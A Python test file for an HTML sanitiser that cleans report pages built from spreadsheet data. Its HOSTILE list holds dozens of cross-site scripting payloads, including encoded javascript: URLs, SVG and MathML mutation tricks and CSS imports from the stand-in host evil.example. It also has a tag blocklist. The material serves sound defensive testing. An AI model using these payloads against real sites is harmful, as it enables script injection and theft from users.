"""The last pass over a report page (icttools.run.htmlsafe): nothing in it can run or fetch.

Each hostile value is one a spreadsheet cell could carry into a report. The checks read the
sanitised page with an HTML parser (what tags and attributes are left), not with the sanitiser's
own code; the browser tests (tests/test_browsercheck.py) open such a page in Chromium.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from icttools.run.htmlsafe import NBCONVERT_PLACEHOLDER_ALT, is_placeholder_alt, sanitize_css, sanitize_page

EVIL = "https://evil.example"


class _Collect(HTMLParser):
    """Every start tag with its attributes, and the text of <style> elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._in_style = tag == "style"

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            self.styles.append(data)


def parse(text: str) -> _Collect:
    c = _Collect()
    c.feed(text)
    c.close()
    return c


def assert_inert(text: str) -> None:
    """No tag or attribute that runs code or fetches anything outside the page."""
    page = parse(text)
    for tag, attrs in page.tags:
        assert tag not in {"script", "iframe", "object", "embed", "link", "base", "form", "input",
                           "frame", "applet", "animate", "set", "foreignobject", "math"}, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            squashed = re.sub(r"[\x00-\x20]", "", value).lower()
            assert "javascript:" not in squashed and "vbscript:" not in squashed, (tag, name, value)
            if name in ("src", "xlink:href") or (name == "href" and tag != "a"):
                assert squashed.startswith(("data:image/", "#")), (tag, name, value)
            if name == "href" and tag == "a":
                assert re.match(r"^(https?:|mailto:|#|[^:]*$)", squashed), value
            if name == "style" or "url(" in squashed:
                assert "evil" not in squashed, (tag, name, value)
        if tag == "meta":
            assert "http-equiv" not in attrs
    for css in page.styles:
        assert "@import" not in css.lower() and "evil" not in css.lower(), css
        assert "<" not in css


HOSTILE = [
    '<img src=x onerror="alert(1)">',
    "<script>alert(2)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<a href="javascript:alert(3)">a</a>',
    '<a href="JaVaScRiPt:alert(4)">b</a>',
    '<a href="java&#x09;script:alert(5)">c</a>',
    '<a href=" &#14;javascript:alert(6)">d</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">e</a>',
    "<svg onload=alert(8)><animate attributeName=href to=javascript:alert(9) /><a><text>x</text></a></svg>",
    '<svg><use href="https://evil.example/s.svg#x"/><image href="https://evil.example/i.png"/></svg>',
    "<svg><style><img src=x onerror=alert(10)></style></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(11)</script>"></iframe>',
    "<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>",
    "<style>@imp\\6f rt 'https://evil.example/c.css';</style>",
    '<div style="background-image:u\\72l(https://evil.example/c.png)">z</div>',
    '<div style="background:image-set(&quot;https://evil.example/d.png&quot; 1x)">z</div>',
    '<div style="width: expression(alert(12))">z</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/d.css">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=a><button formaction="https://evil.example/">b</button></form>',
    '<object data="https://evil.example/e.swf"></object><embed src="https://evil.example/f.swf">',
    '<noscript><p title="</noscript><img src=x onerror=alert(13)>"></noscript>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(14)></style></mglyph></table></mtext></math>',
    '<img srcset="https://evil.example/g.png 2x" src="data:image/png;base64,iVBORw0KGgo=">',
    '<table background="https://evil.example/h.png"><tr><td>x</td></tr></table>',
    '<video poster="https://evil.example/i.png"><source src="https://evil.example/j.mp4"></video>',
    '<a href="#top" onclick="alert(15)" onmouseover = "alert(16)">f</a>',
    "<script/>alert(17)</script>",
    "<style/><img src=x onerror=alert(18)>",
    "<!--<img src=x onerror=alert(19)>-->",
    '<img src=x onerror=alert(20)//',
    '<div <img src=x onerror=alert(21)>>',
    '<svg><a xlink:href="javascript:alert(22)"><rect width="10" height="10"/></a></svg>',
    '<svg><rect fill="url(https://evil.example/k.svg#p)" width="1" height="1"/></svg>',
]


@pytest.mark.parametrize("fragment", HOSTILE)
def test_a_hostile_fragment_comes_out_inert(fragment):
    page = f"<!DOCTYPE html><html lang=vi><head><title>t</title></head><body><p>{fragment}</p></body></html>"
    out = sanitize_page(page, default_alt="Báo cáo")
    assert_inert(out)
    assert sanitize_page(out, default_alt="Báo cáo") == out  # canonical: a second pass changes nothing


def test_escaped_text_stays_text():
    # the reports escape data text themselves: the sanitiser must not undo it
    out = sanitize_page("<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; =HYPERLINK(&quot;x&quot;)</p>",
                        default_alt="x")
    assert out == "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; =HYPERLINK(\"x\")</p>"


def test_what_a_report_needs_is_kept():
    page = (
        '<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8">'
        '<meta name="viewport" content="width=device-width, initial-scale=1"><title>T</title>'
        "<style>.icttools-table td.num { text-align: right; } tr.icttools-self { background: #fff3c4; }"
        " @media print { h2 { break-after: avoid; } }</style></head>"
        '<body><main class="icttools-page"><h2 id="a">Kết luận chính</h2>'
        '<table class="icttools-table"><thead><tr><th scope="col">Tỉnh</th></tr></thead>'
        '<tbody><tr class="icttools-self"><td class="num" colspan="2">0,5066</td></tr></tbody></table>'
        '<details open><summary>Bảng đầy đủ</summary><p>…</p></details>'
        '<a href="https://mic.gov.vn/x?a=1&amp;b=2" target="_blank">nguồn</a> <a href="#a">lên</a> '
        '<a href="02_gap_analysis.html">báo cáo 02</a> <a href="mailto:so@tttt.gov.vn">thư</a>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Biểu đồ — Hà Giang hạng 17" width="600">'
        '<svg viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0"/></linearGradient>'
        '</defs><rect fill="url(#g)" width="10" height="10"/></svg>'
        "</main></body></html>")
    out = sanitize_page(page, default_alt="x")
    for kept in ('<html lang="vi">', '<meta charset="utf-8">', 'name="viewport"', "<title>T</title>",
                 ".icttools-table td.num { text-align: right; }", "@media print",
                 '<table class="icttools-table">', '<th scope="col">', '<td class="num" colspan="2">',
                 '<tr class="icttools-self">', '<details open="">', "<summary>Bảng đầy đủ</summary>",
                 'href="https://mic.gov.vn/x?a=1&amp;b=2"', 'rel="noopener noreferrer"',
                 'href="#a"', 'href="02_gap_analysis.html"', 'href="mailto:so@tttt.gov.vn"',
                 'alt="Biểu đồ — Hà Giang hạng 17"', 'width="600"', 'viewbox="0 0 10 10"',
                 'fill="url(#g)"', '<h2 id="a">Kết luận chính</h2>'):
        assert kept in out, kept
    assert out.startswith("<!DOCTYPE html>")


def test_images_without_a_real_alt_get_the_default():
    img = '<img src="data:image/png;base64,AA==" '
    out = sanitize_page(f'{img}>{img}alt="{NBCONVERT_PLACEHOLDER_ALT}">'
                        f'{img}alt="&lt;Figure size 900x500 with 1 Axes&gt;">'
                        f'{img}alt="Hạng của Hà Giang qua các năm"><img src="chart.png" alt="bên ngoài">',
                        default_alt='Báo cáo "01" – Hà Giang')
    alts = [a.get("alt") for t, a in parse(out).tags if t == "img"]
    assert alts == ['Báo cáo "01" – Hà Giang'] * 3 + ["Hạng của Hà Giang qua các năm"]
    assert 'alt="Báo cáo &quot;01&quot; – Hà Giang"' in out
    assert "bên ngoài" not in out  # an image from outside the page is left out


@pytest.mark.parametrize("alt, placeholder", [
    (None, True), ("", True), ("  ", True), (NBCONVERT_PLACEHOLDER_ALT, True), ("Biểu đồ", True),
    ("<Figure size 960x600 with 2 Axes>", True), ("<IPython.core.display.Image object>", True),
    ("Thứ hạng 63 tỉnh — Hà Giang đứng thứ 17", False), ("Rank of the 63 provinces", False),
])
def test_placeholder_alts(alt, placeholder):
    assert is_placeholder_alt(alt) is placeholder


@pytest.mark.parametrize("css, expected", [
    ("td { color: red }", "td { color: red }"),
    ("a { background: url(#x) } b { background: url('data:image/png;base64,AA==') }",
     "a { background: url(#x) } b { background: url('data:image/png;base64,AA==') }"),
    ("a { background: url(https://evil.example/x.png) red }", "a { background: none red }"),
    ("@import 'https://evil.example/a.css'; td { color: red }", " td { color: red }"),
    ("td::after { content: '<b>' }", "td::after { content: '\\3c b>' }"),
    ("td /* u */ { color: red }", "td  { color: red }"),
])
def test_css_is_made_inert(css, expected):
    assert sanitize_css(css) == expected


@pytest.mark.parametrize("css", [
    "a { background: u\\72l(https://evil.example/x.png) }",
    "a { background: \\75rl(https://evil.example/x.png) }",
    "@\\69mport 'https://evil.example/a.css';",
    "a { background: image-set('https://evil.example/x.png' 1x) }",
    "a { width: expression(alert(1)) }",
    "a { -moz-binding: url(#x) }",
    "a { behavior: url(#x) }",
])
def test_obfuscated_css_is_refused_whole(css):
    assert sanitize_css(css) is None


def test_a_refused_style_attribute_is_dropped_and_a_refused_stylesheet_emptied():
    out = sanitize_page('<div style="background:u\\72l(https://evil.example/x)" class="k">x</div>'
                        "<style>td{color:red} a{background:u\\72l(https://evil.example/y)}</style>",
                        default_alt="x")
    assert out == '<div class="k">x</div><style></style>'


def test_long_tokens_in_table_cells_may_wrap_and_read_the_same():
    url = "https://m.antoanthongtin.gov.vn/cong-nghe-thong-tin/lao-cai?a=1&b=<2>"
    out = sanitize_page(f"<table><tr><td>Nguồn: {url} (2019)</td></tr></table><p>{url}</p>",
                        default_alt="x")
    cell = out[out.index("<td>") + 4:out.index("</td>")]
    assert cell.count("<wbr>") >= 8
    assert cell.replace("<wbr>", "") == "Nguồn: " + url.replace("&", "&amp;").replace("<", "&lt;") \
        .replace(">", "&gt;") + " (2019)"  # the same text, escaped, only with break chances
    assert "<p>https://m.antoanthongtin.gov.vn/cong-nghe-thong-tin/lao-cai?a=1&amp;b=&lt;2&gt;</p>" in out
    assert sanitize_page("<td>0,5066 Hà Giang</td>", default_alt="x") == "<td>0,5066 Hà Giang</td>"
